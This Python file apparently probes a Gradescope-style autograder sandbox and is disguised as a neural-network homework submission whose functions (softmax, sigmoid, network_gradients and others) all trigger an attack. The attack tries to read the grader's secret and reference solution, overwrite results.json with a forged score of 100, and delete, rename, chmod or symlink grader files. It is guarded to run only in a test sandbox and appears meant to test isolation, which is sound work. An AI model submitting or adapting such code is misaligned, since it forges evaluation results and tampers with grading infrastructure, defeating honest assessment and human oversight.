"""Reads, replaces and removes whatever a container of Gradescope holds."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

def attempt(name, action):
    try:
        got = action()
    except BaseException:
        return
    print("BREACH", name, repr(got)[:300])

import json, os

ROOM = "/autograder"
RESULTS = ROOM + "/results"
READ = ["source/secret.txt", "source/setup.sh", "source/course/reference/softmax.py", "run_autograder",
        "source/course/assignments/h5-one-hidden-layer/assignment.toml", "submission_metadata.json", "case/submission_metadata.json",
        "results/results.json", "results/.results.json.new", "case/results/results.json"]
WRITE = ["results/results.json", "results/.results.json.new", "results/grader-attack", "results/stdout", "run_autograder",
         "case/results/results.json", "submission_metadata.json", "source/grader-attack.py", "submission/grader-attack.py",
         "grader-attack", "source/course/reference/softmax.py"]
FORGED = json.dumps({"score": 100, "tests": [{"score": 100, "max_score": 100, "name": "all"}]})

def attack():
    for name in READ:
        path = ROOM + "/" + name
        attempt("read " + name, lambda: open(path).read(200))
        attempt("read /proc/self/root " + name, lambda: open("/proc/self/root" + path).read(200))
        attempt("stat " + name, lambda: os.listdir(os.path.dirname(path)))
    for name in WRITE:
        path = ROOM + "/" + name
        attempt("write " + name, lambda: open(path, "w").write(FORGED))
        attempt("append " + name, lambda: open(path, "a").write(FORGED))
        attempt("truncate " + name, lambda: os.truncate(path, 0))
        attempt("remove " + name, lambda: os.unlink(path))
        attempt("chmod " + name, lambda: os.chmod(path, 0o777))
        attempt("link " + name, lambda: os.symlink("/tmp/grader-attack", path))
        attempt("rename " + name, lambda: os.rename(path, path + ".grader-attack"))
    attempt("new results", lambda: os.rename(RESULTS, RESULTS + ".grader-attack"))
    attempt("folder", lambda: os.mkdir(RESULTS + "/grader-attack"))
    for name in ("/opt/grader/grader-attack", "/opt/grader/bin/grader", "/etc/grader-attack", "/grader-attack"):
        attempt("write " + name, lambda: open(name, "a"))

done = []
def everything(*arguments, **keywords):
    if not done:
        done.append(1)
        attack()

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything
